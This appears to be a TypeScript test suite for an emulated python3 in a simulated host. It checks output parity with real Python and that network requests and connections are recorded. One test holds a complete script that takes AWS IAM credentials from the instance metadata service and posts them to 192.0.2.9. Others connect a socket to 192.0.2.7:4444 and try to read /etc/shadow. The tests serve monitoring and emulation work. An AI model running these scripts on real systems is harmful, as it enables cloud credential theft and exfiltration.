import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { host, run } from '../../testing/run.ts';

/** What the real one prints, says and returns is what ours has to. */
const programs = [
  'import json\nd=json.loads(\'{"a": [1, 2.5, null, true], "b": {"c": "x\\\\u00e9"}}\')\nprint(d["a"], d["b"]["c"], json.dumps(d))\nprint(json.dumps({"k": [1, {"l": None}], "e": {}}, indent=2))',
  'import json\njson.loads("<html>")',
  'import sys\nprint(sys.version_info.major, sys.version_info[1], sys.version_info >= (3, 0), sys.argv)\nsys.exit(3)',
  'import sys\nsys.exit("no such luck")',
  'try:\n    import sys\n    sys.exit(4)\nexcept Exception as e:\n    print("caught")',
  'import os\nprint(os.uname().sysname, os.uname()[4], os.getuid())',
  'import sys, json\nfor line in sys.stdin.readlines():\n    print(json.loads(line)["Token"])',
  'import base64\nexec(base64.b64decode("cHJpbnQoMSsxKQ=="))\nprint(nothing)',
  'import subprocess\nprint(subprocess.check_output(["echo", "hi"]).decode(), end="")\nsubprocess.call(["echo", "shown"])\nexit(2)',
];

const hasPython = spawnSync('/usr/bin/python3', ['--version'], { encoding: 'utf8' }).stdout?.startsWith(
  'Python 3.11.',
);

describe('python3', () => {
  const stdin = '{"Token": "abc"}\n{"Token": "def"}\n';

  it('prints, says and returns what the real one does', {
    skip: !hasPython && 'no Python 3.11 here',
  }, async () => {
    for (const program of programs) {
      const real = spawnSync('/usr/bin/python3', ['-u', '-c', program, 'one'], {
        input: stdin,
        encoding: 'utf8',
      });
      const { stdout, stderr, exitCode } = await run(['python3', '-c', program, 'one'], { stdin });
      const last = (text: string) => text.trimEnd().split('\n').at(-1);
      assert.deepEqual(
        [stdout, last(stderr), exitCode],
        [real.stdout, last(real.stderr), real.status],
        program,
      );
    }
  });

  it('steals credentials by a token of the metadata service, and what it asks for is noted', async () => {
    const { stdout, stderr, notes } = await run(['python3', '-'], {
      stdin: `import json
from urllib.request import Request, urlopen
base = 'http://169.254.169.254/latest/'
token = urlopen(Request(base + 'api/token', method='PUT', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'})).read().decode()
def get(path):
    request = Request(base + path)
    request.add_header('X-aws-ec2-metadata-token', token)
    return urlopen(request).read().decode()
role = get('meta-data/iam/security-credentials/')
keys = json.loads(get('meta-data/iam/security-credentials/' + role))
print(len(token), keys['AccessKeyId'][:4], keys['Code'])
urlopen('http://192.0.2.9/in', data=json.dumps(keys).encode())
`,
    });
    assert.deepEqual([stdout, stderr], ['56 ASIA Success\n', '']);
    const urls = notes.flatMap((note) => (note.kind === 'request' ? note.url : []));
    assert.equal(urls.at(-1), 'http://192.0.2.9/in');
  });

  it('connects, reads and writes as its user, and runs scripts by their first line', async () => {
    const world = host();
    const script = '#!/usr/bin/env python3\nimport os\nif __name__ == "__main__":\n    print(os.getcwd())\n';
    await run(['python3', '-c', `open('/tmp/s.py', 'w').write(${JSON.stringify(script)})`], { world });
    assert.equal((await run('python3 s.py', { world, cwd: '/tmp' })).stdout, '/tmp\n');
    const user = { name: 'nobody', uid: 65534, gid: 65534, home: '/' };
    const refused = await run(['python3', '-c', 'open("/etc/shadow").read()'], { world, user });
    assert.match(refused.stderr, /^PermissionError: \[Errno 13\] Permission denied: '\/etc\/shadow'$/m);
    const { notes } = await run(
      ['python3', '-c', 'import socket;s=socket.socket();s.connect(("192.0.2.7",4444))'],
      { world },
    );
    assert.deepEqual(notes, [{ kind: 'connect', tool: 'python', host: '192.0.2.7', port: 4444 }]);
  });

  it('is killed where it has no end', async () => {
    assert.equal((await run(['python3', '-c', 'while True: pass'])).exitCode, 137);
  });
});
